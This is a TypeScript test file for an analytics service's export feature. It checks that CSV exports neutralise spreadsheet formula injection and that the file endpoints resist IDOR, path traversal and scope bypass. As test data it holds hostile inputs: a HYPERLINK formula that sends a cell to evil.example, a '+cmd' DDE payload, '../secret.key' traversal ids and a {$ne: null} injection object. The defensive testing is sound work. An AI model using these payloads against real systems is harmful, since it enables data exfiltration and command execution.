import { beforeAll, describe, expect, test } from 'bun:test';
import type { Operation, Page } from '@waypost/contract';
import { apiOf } from '../api.ts';
import { download, endOf, readCsv, runOperation } from '../operations.ts';
import { addCode, createKey, openWorld, until, type World } from './world.ts';

const LIMIT_MS = 180_000;
const ADDRESS = '203.0.113.77';
/** What a spreadsheet would run, as a name, a user agent and a referrer. */
const HOSTILE = [
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  `+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
];

let world: World;
let anna: string;
beforeAll(async () => {
  world = await openWorld();
  for (const name of HOSTILE) {
    const code = await addCode(world.anna, { name });
    const visit = await fetch(code.qr_url, {
      redirect: 'manual',
      headers: {
        'user-agent': name.trim().replace('＝', '='),
        'x-forwarded-for': ADDRESS,
        referer: 'https://=evil.example/',
      },
    });
    await visit.arrayBuffer();
  }
  const visitors = () => world.anna.call<Page<unknown>>('visitor/user_inquire', { search: ADDRESS });
  const seen = await until(
    async () => (await visitors()).content.count,
    (count) => count >= HOSTILE.length,
  );
  expect(seen).toBeGreaterThanOrEqual(HOSTILE.length);
  anna = (await runOperation(world.anna, 'visitor/export')).id;
}, LIMIT_MS);

describe('CSV/XLSX 1.2.10', () => {
  test(
    'no cell of an export runs in a spreadsheet, whatever people name codes or browsers send',
    async () => {
      const daily = await runOperation(world.anna, 'daily_statistics/export', {
        table: 'code',
        range: 'today',
      });
      const files = await Promise.all(
        [anna, daily.id].map(async (id) =>
          (await download(world.product.origin, world.anna.token, id)).text(),
        ),
      );
      let neutralised = 0;
      for (const text of files) {
        for (const cell of readCsv(text).flat()) {
          expect(cell).not.toMatch(/^[\s\0]*[=+@＝＋＠]/);
          expect(cell).not.toMatch(/^[\t\r\n\0]/);
          if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^\s*[-－]/);
          if (/^'\s*[=+\-@＝]/.test(cell)) neutralised += 1;
        }
      }
      // The names stand in both files, and the user agents in one.
      expect(neutralised).toBeGreaterThanOrEqual(2 * HOSTILE.length);
    },
    LIMIT_MS,
  );

  test('a result is sent to be saved, never to be shown', async () => {
    const answer = await download(world.product.origin, world.anna.token, anna);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-disposition')).toStartWith('attachment;');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(answer.headers.get('content-type')).toStartWith('text/csv');
    await answer.arrayBuffer();
  });
});

describe('IDOR 8.2.2', () => {
  test(
    'nobody but its owner gets a result: not another customer, not an agent, not an administrator',
    async () => {
      for (const thief of [world.ben, world.agent, world.operator, world.root, undefined]) {
        const answer = await download(world.product.origin, thief?.token, anna);
        expect(answer.status).toBe(thief === undefined ? 401 : 404);
        expect(await answer.text()).not.toContain(ADDRESS);
        if (thief === undefined) continue;
        const progress = await thief.call<{ operations: Operation[] }>('async_operations/progress', {
          ids: [anna],
        });
        expect(progress.content.operations).toEqual([]);
      }
      for (const thief of [world.ben, world.agent]) {
        for (const call of ['details', 'cancel', 'retry', 'remove'])
          expect([call, (await thief.call(`async_operations/${call}`, { id: anna })).status]).toEqual([
            call,
            404,
          ]);
        for (const call of ['inquire', 'user_inquire']) {
          const page = await thief.call<Page<Operation>>(`async_operations/${call}`, { page_size: 200 });
          expect(page.content.content.map(({ id }) => id)).not.toContain(anna);
        }
      }
      expect((await download(world.product.origin, world.anna.token, anna)).status).toBe(200);
    },
    LIMIT_MS,
  );

  test(
    'an export holds what its owner may see, also when more is asked for',
    async () => {
      const code = await addCode(world.anna, { name: 'Only hers' });
      for (const body of [{ own: false }, { link: code.id }, { search: ADDRESS }]) {
        const done = await runOperation(world.ben, 'visitor/export', body);
        const text = await (await download(world.product.origin, world.ben.token, done.id)).text();
        expect(text).not.toContain(ADDRESS);
      }
      const table = await runOperation(world.ben, 'daily_statistics/export', { own: false, table: 'code' });
      const text = await (await download(world.product.origin, world.ben.token, table.id)).text();
      expect(text).not.toContain('HYPERLINK');
    },
    LIMIT_MS,
  );

  test('what names a file cannot leave its folder or reach the store as an operator', async () => {
    for (const id of [
      '../secret.key',
      `${anna}/../../secret.key`,
      { $ne: null },
      null,
      '',
      anna.toUpperCase(),
    ])
      for (const call of ['download', 'cancel', 'retry', 'remove', 'details'])
        expect((await world.anna.call(`async_operations/${call}`, { id })).status).toBe(422);
  });
});

describe('Routes 8.2.1', () => {
  test(
    'who may read but not export exports nothing, with a key either',
    async () => {
      const key = apiOf(
        world.product.origin,
        await createKey(world.product, ['--account', 'anna.security', '--scopes', 'qr.visit:read']),
      );
      expect((await key.call('daily_statistics/inquire')).status).toBe(200);
      for (const path of [
        'visitor/export',
        'stealing_list/export',
        'count_reconciliation/export',
        'daily_statistics/export',
        'pc_historical_statistics/export',
      ])
        for (const api of [key, world.readerKey]) expect((await api.call(path)).status).toBe(403);
      expect((await download(world.product.origin, world.readerKey.token, anna)).status).toBe(403);
      const started = await world.anna.call<{ id: string }>('daily_statistics/export');
      expect(started.status).toBe(202);
      await endOf(world.anna, started.content.id);
    },
    LIMIT_MS,
  );
});
